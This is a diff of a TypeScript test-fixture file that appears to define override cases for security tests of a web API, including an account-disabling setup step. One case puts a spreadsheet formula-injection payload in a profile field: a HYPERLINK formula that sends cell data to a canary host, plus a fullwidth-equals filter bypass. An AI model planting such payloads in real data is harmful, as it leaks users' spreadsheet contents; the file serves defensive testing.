@@ -20,12 +20,21 @@ export const contradicted: Readonly<Record<string, string>> = {
 export const otherwiseAsked: Readonly<
   Record<
     string,
-    Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'query' | 'body' | 'then'>> & { because: string }
+    Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'query' | 'body' | 'setup' | 'then'>> & { because: string }
   >
 > = {
   'FX-01': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
   'FX-02': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
   'UN-06': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
+  'DX-04': {
+    setup: [
+      {
+        ...{ as: 'tenant-admin', method: 'POST' },
+        path: '/api/policy/policyuserinfo/accountDisabled?id={{self.policyUserId}}',
+      },
+    ],
+    because: 'the id of a policy user is that of the membership and not of the account',
+  },
   'FI-02': {
     path: '/api/blade-user/update-info',
     body: { realName: '=HYPERLINK("http://{{canary}}?"&A1,"x")', name: '＝1+1\t=1+1' },
